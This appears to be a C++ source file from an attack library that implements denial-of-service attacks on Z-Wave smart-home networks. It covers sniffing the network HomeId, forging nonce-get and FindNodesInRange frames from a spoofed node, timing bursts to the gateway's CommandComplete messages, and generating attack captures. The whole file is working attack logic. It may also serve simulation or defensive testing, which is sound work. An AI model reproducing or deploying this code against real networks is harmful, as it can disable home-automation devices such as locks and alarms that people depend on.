#include "wavecrush/attack.hpp"

namespace wavecrush {

const char* to_string(AttackKind kind) {
    switch (kind) {
        case AttackKind::RoutedNoncenseS0: return "routed_noncense_s0";
        case AttackKind::RoutedNoncenseS2: return "routed_noncense_s2";
        case AttackKind::PowerOfNope: return "power_of_nope";
    }
    return "unknown";
}

std::int64_t default_attack_interval_ms(AttackKind kind) {
    return kind == AttackKind::PowerOfNope ? 110000 : 100;
}

std::variant<HomeId, SniffError> sniff_home_id(const std::vector<CaptureEntry>& stream,
                                               const CommandIds& ids) {
    for (const auto& entry : stream) {
        auto decoded = decode_frame(entry.bytes, ids);
        if (const auto* frame = std::get_if<Frame>(&decoded)) return frame->home_id;
    }
    return SniffError::NoValidFrame;
}

Frame build_routed_noncense_frame(HomeId home, bool s2, std::uint8_t seq, NodeId spoof_src,
                                  NodeId target_dst) {
    Frame f;
    f.home_id = home;
    f.src = spoof_src;
    f.dst = target_dst;
    f.ctrl.header_type = HeaderType::Singlecast;
    f.ctrl.ack_requested = true;
    if (s2)
        f.command = S2NonceGet{seq};
    else
        f.command = NonceGet{};
    return f;
}

Frame build_power_of_nope_frame(HomeId home, NodeId spoof_src, NodeId target_dst) {
    Frame f;
    f.home_id = home;
    f.src = spoof_src;
    f.dst = target_dst;
    f.ctrl.header_type = HeaderType::Singlecast;
    f.ctrl.ack_requested = true;
    f.command = FindNodesInRange{Bytes(32, 0xFF)};
    return f;
}

Attacker::Emission Attacker::emit(Timestamp now) {
    Emission e;
    e.at = now;
    if (plan_.kind == AttackKind::PowerOfNope) {
        e.frame = build_power_of_nope_frame(*home_, plan_.spoof_src, plan_.target_dst);
    } else {
        const bool s2 = plan_.kind == AttackKind::RoutedNoncenseS2;
        e.frame =
            build_routed_noncense_frame(*home_, s2, s2_seq_, plan_.spoof_src, plan_.target_dst);
        if (s2) ++s2_seq_;  // 8-bit counter wraps
    }
    ++sent_;
    return e;
}

std::optional<Attacker::Emission> Attacker::on_frame_observed(const Frame& frame,
                                                              NodeId gateway_id, Timestamp now) {
    if (!home_) {
        home_ = frame.home_id;  // any checksum-valid frame reveals the HomeId
        if (start_pending_ && !exhausted()) {
            start_pending_ = false;
            if (!plan_.use_command_complete_timing)
                next_tick_ = now + plan_.interval_ms * us_per_ms;
            return emit(now);
        }
        return std::nullopt;
    }
    if (plan_.use_command_complete_timing && sent_ > 0 && !exhausted() &&
        frame.src == gateway_id && std::holds_alternative<CommandComplete>(frame.command)) {
        // The legacy gateway leaks the exact moment its sweep finished.
        return emit(now);
    }
    return std::nullopt;
}

std::optional<Attacker::Emission> Attacker::on_tick(Timestamp now) {
    if (exhausted()) {
        next_tick_.reset();
        return std::nullopt;
    }
    if (!home_) {
        // Nothing sniffed yet; fire as soon as the next frame is overheard.
        start_pending_ = true;
        next_tick_.reset();
        return std::nullopt;
    }
    auto e = emit(now);
    if (!plan_.use_command_complete_timing && !exhausted())
        next_tick_ = now + plan_.interval_ms * us_per_ms;
    else
        next_tick_.reset();
    return e;
}

std::vector<CaptureEntry> craft_attack_capture(AttackKind kind, HomeId home, std::uint32_t count,
                                               std::int64_t interval_ms, const CommandIds& ids) {
    std::vector<CaptureEntry> out;
    out.reserve(count);
    std::uint8_t seq = 0;
    for (std::uint32_t i = 0; i < count; ++i) {
        Frame f = kind == AttackKind::PowerOfNope
                      ? build_power_of_nope_frame(home)
                      : build_routed_noncense_frame(
                            home, kind == AttackKind::RoutedNoncenseS2, seq++);
        auto bytes = encode_frame(f, ids);
        CaptureEntry entry;
        entry.t_us = std::int64_t(i) * interval_ms * us_per_ms;
        entry.bytes = std::get<Bytes>(bytes);  // attack frames are never oversize
        out.push_back(std::move(entry));
    }
    return out;
}

}  // namespace wavecrush
